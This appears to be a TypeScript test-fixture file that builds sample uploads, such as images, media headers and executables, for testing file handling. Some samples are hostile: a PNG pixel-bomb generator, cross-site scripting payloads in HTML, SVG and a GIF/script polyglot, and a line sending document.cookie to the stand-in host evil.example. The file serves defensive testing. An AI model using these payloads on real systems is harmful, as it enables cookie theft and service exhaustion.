import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Small files of many kinds, made on the spot, as people and attackers would send them. */

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 130, b: 60 } } });

export const samplePng = (width = 8, height = 6): Promise<Buffer> => solid(width, height).png().toBuffer();
export const sampleJpeg = (): Promise<Buffer> => solid(8, 6).jpeg().toBuffer();
export const sampleGif = (): Promise<Buffer> => solid(8, 6).gif().toBuffer();
export const sampleWebp = (): Promise<Buffer> => solid(8, 6).webp().toBuffer();
export const sampleAvif = (): Promise<Buffer> => solid(8, 6).avif().toBuffer();

/** A phone held upright, at a place that is nobody's business. */
export const samplePhonePhoto = (): Promise<Buffer> =>
  solid(80, 60)
    .withExif({ IFD0: { Make: 'SecretCamera' }, IFD3: { GPSLatitude: '31/1 14/1 3/1', GPSLatitudeRef: 'N' } })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();

/** A picture that says it is enormous and is a few bytes. */
export function samplePixelBomb(width = 60_000, height = 60_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = deflateSync(Buffer.alloc(1024 * 1024));
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

export const SAMPLE_HTML = Buffer.from('<!doctype html><script>alert(document.cookie)</script>');
export const SAMPLE_SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
);
export const SAMPLE_SCRIPT = Buffer.from('fetch("//evil.example/" + document.cookie);\n'.repeat(20));
/** The beginning of a Windows program. */
export const SAMPLE_EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(512)]);
export const SAMPLE_ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(512)]);
export const SAMPLE_PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
export const SAMPLE_TEXT = Buffer.from('Just words, 以及文字。\n');
/** An empty archive. */
export const SAMPLE_ZIP = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
/** A picture to some, a script to others. */
export const SAMPLE_GIF_SCRIPT = Buffer.from('GIF89a/*\x00\x00\x00\x00*/=1;alert(document.domain);//', 'latin1');

/** What browsers record: the head of a WebM file. */
export const SAMPLE_WEBM = Buffer.concat([
  Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d42878104428581021853806701', 'hex'),
  Buffer.alloc(256),
]);
export const SAMPLE_MP4 = Buffer.concat([
  Buffer.from('000000206674797069736f6d0000020069736f6d69736f32617663316d703431', 'hex'),
  Buffer.alloc(256),
]);
export const SAMPLE_MP3 = Buffer.concat([
  Buffer.from('ID3\x03\x00\x00\x00\x00\x00\x00', 'latin1'),
  Buffer.from('fffb9064', 'hex'),
  Buffer.alloc(600),
]);
export const SAMPLE_WAV = Buffer.concat([Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt ', 'latin1'), Buffer.alloc(64)]);
